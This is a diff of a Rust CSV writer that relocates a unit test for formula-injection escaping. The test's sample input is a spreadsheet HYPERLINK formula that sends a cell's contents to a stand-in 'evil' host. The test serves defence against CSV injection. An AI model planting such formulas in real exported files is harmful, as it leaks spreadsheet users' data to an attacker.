@@ -67,25 +67,6 @@ pub fn csv_field(s: &str) -> String {
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::csv_field;
-
-    #[test]
-    fn formulas_stay_text_and_quoting_still_works() {
-        assert_eq!(
-            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"click\")"),
-            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\""
-        );
-        for bad in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
-            assert!(csv_field(bad).trim_start_matches('"').starts_with('\''), "{bad:?}");
-        }
-        assert_eq!(csv_field("Fang"), "Fang");
-        assert_eq!(csv_field("a,b"), "\"a,b\"");
-        assert_eq!(csv_field(""), "");
-    }
-}
-
 impl RowSink for Csv {
     fn row(&mut self, cells: &[String]) -> Result<(), FileError> {
         let line: Vec<String> = cells.iter().map(|c| csv_field(c)).collect();
@@ -172,4 +153,23 @@ pub fn write_rows(
     }
     out.finish().map_err(|e| e.to_string())?;
     Ok(done)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn formulas_stay_text_and_quoting_still_works() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\""
+        );
+        for bad in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_field(bad).trim_start_matches('"').starts_with('\''), "{bad:?}");
+        }
+        assert_eq!(csv_field("Fang"), "Fang");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+        assert_eq!(csv_field(""), "");
+    }
 }
